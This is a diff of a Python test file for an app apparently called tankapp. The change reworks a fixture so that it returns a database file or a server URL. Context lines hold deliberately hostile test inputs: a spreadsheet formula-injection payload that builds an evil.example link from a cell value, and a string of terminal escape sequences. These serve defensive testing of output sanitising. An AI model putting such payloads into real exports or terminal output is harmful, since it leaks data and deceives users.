@@ -23,7 +23,7 @@ from tankapp.services.contributions import register as contributions
 from tankapp.services.members import groups
 from tankapp.services.meetings import planning as meetings
 from tankapp.services.members import registry as members
-from tests.helpers import assert_one_line, run
+from tests.helpers import assert_one_line, db_arg, run
 
 NASTY = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
@@ -37,7 +37,7 @@ ESCAPE = "\x1b]8;;http://evil.example\x07Åse\x1b[2J\x9b31m"
 
 
 @pytest.fixture
-def filled(db, db_path, group_ids) -> Path:
+def filled(db, group_ids) -> Path:
     """A database whose names and titles hold formulas and terminal escapes."""
     with db.session() as s:
         # set on the record itself, as an import or another program may leave them
@@ -60,7 +60,7 @@ def filled(db, db_path, group_ids) -> Path:
                     title=f"Bidrag {i}", text="x", group_id=group_ids["Klinikere"], status=ContributionStatus.REVIEWED)
             )
             contribution.title = title
-    return db_path
+    return db_arg(db)  # the file, or the server's URL
 
 
 def listing(capsys, db: Path, *args, fmt: str) -> str:
